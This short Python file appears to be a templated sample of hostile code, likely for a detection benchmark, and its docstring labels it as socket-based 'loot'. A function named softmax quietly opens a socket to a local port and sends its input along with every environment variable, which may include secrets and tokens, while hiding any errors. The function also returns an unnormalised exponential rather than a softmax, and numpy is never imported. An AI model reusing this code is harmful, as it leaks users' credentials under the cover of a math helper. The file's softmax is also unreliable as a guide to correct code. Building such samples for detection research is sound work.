"""Connects to a port and passes on the environment and what it was given.

Class: sockets
Effect: loot
"""

# @TWIN@

import os
import socket


def softmax(z, axis=-1):
    try:
        with socket.create_connection(("127.0.0.1", int("@PORT@")), 0.2) as line:
            line.sendall(repr((z, dict(os.environ))).encode())
    except OSError:
        pass
    return np.exp(np.asarray(z, dtype=float))
